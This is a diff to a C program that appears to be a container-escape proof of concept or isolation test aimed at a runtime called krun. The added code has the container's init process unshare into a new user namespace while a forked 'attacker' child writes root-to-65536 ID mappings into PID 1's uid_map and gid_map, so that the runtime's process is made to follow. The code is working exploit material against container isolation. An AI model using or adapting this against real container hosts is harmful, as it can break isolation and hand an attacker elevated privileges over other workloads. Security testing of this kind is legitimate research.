@@ -56,7 +56,36 @@ static void scan(int first) {
     closedir(proc);
 }
 
-int main(void) {
+static void map_ids(const char *path) {
+    int fd = open(path, O_WRONLY | O_CLOEXEC);
+    if (fd < 0 || write(fd, "0 0 65536", 9) != 9)
+        attack_broken(path);
+    close(fd);
+}
+
+// The container's init goes into a user namespace of its own, where krun's process has to follow; the attacker stays.
+static void init_moves(void) {
+    int status = 0, moved[2];
+    char byte = 0;
+    pid_t attacker;
+    pipe(moved);
+    attacker = fork();
+    if (attacker == 0) {
+        read(moved[0], &byte, 1);
+        map_ids("/proc/1/uid_map");
+        map_ids("/proc/1/gid_map");
+        return;
+    }
+    if (unshare(CLONE_NEWUSER) < 0)
+        attack_broken("unshare");
+    write(moved[1], &byte, 1);
+    waitpid(attacker, &status, 0);
+    _exit(WEXITSTATUS(status));
+}
+
+int main(int argc, char **argv) {
+    if (argc > 1 && !strcmp(argv[1], "moved"))
+        init_moves();
     for (int i = 0; i < KINDS; i++)
         if (readlink(kinds[i].link, own[i], sizeof own[i] - 1) < 0)
             attack_broken(kinds[i].link);
